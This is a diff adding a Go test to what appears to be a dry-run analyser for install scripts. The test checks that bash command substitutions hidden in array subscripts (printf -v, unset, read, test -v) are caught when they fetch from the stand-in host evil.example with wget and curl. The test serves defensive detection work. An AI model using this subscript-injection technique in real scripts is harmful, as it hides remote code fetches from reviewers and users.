@@ -81,3 +81,32 @@ a=('$(wget -qO- http://evil.example/a)')
 		t.Errorf("%s", render(r))
 	}
 }
+
+// TestSubscriptSubstitutionRuns checks that a command substitution in an
+// array subscript given to printf -v, unset, read or test -v (bash
+// expands the subscript, so the command runs) runs in the dry run and is
+// reported, the command then running with the subscript's value.
+func TestSubscriptSubstitutionRuns(t *testing.T) {
+	src := `#!/bin/bash
+set -eu
+a=(x y z)
+printf -v 'a[$(wget -qO- http://evil.example/p)]' '%s' x
+unset 'a[$(curl -s http://evil.example/u)]'
+read -r 'a[$(curl -s http://evil.example/r)]' </dev/null || true
+test -v 'a[$(curl -s http://evil.example/t)]' || true
+unset 'a[$(echo 2)]'
+[ "${#a[@]}" -le 2 ] || mkdir /opt/bad-unset
+`
+	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
+	var got []string
+	for _, f := range r.Network {
+		got = append(got, f.Tool+" "+strings.Join(f.URLs, " "))
+	}
+	want := "wget http://evil.example/p,curl http://evil.example/u,curl http://evil.example/r,curl http://evil.example/t"
+	if g := strings.Join(got, ","); g != want {
+		t.Errorf("network %q, want %q\n%s", g, want, render(r))
+	}
+	if len(r.Errors) != 0 || len(r.Files) != 0 {
+		t.Errorf("%s", render(r))
+	}
+}
